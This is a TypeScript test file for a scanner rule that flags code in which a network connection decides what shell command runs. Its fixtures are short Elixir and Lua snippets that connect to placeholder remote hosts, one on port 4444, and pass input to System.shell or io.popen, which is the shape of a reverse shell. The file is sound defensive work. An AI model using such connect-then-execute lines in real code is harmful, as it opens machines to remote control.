import { describe, expect, it } from 'vitest'
import { buildSkillView } from '../build-skill-view.ts'
import { readScanFile } from '../read-scan-file.ts'
import { runsBesideConnections } from './runs-beside-connections.ts'

function view(path: string, text: string) {
  const bytes = new TextEncoder().encode(text)
  return buildSkillView({ name: 'tables', files: [readScanFile({ path, bytes })], paths: [path] })
}

const shells = (path: string, text: string) => [...runsBesideConnections(view(path, text))].length > 0

// WUN-103
describe('a connection that decides what is run', () => {
  it('is seen in a language without a tree', () => {
    expect(shells('a.ex', '{:ok, s} = :gen_tcp.connect(~c"203.0.113.19", 51, [])\nSystem.shell(line)\n')).toBe(true)
    expect(shells('a.lua', 'c:connect("x.four.test", 4444)\nlocal p = io.popen(l)\n')).toBe(true)
  })

  it('is none to this machine, nor beside a program of a known name', () => {
    expect(shells('a.ex', '{:ok, s} = :gen_tcp.connect(~c"localhost", 51, [])\nSystem.shell(line)\n')).toBe(false)
    expect(shells('a.kts', 'Socket("x.four.test", 80)\nProcessBuilder("git", "status")\n')).toBe(false)
  })
})
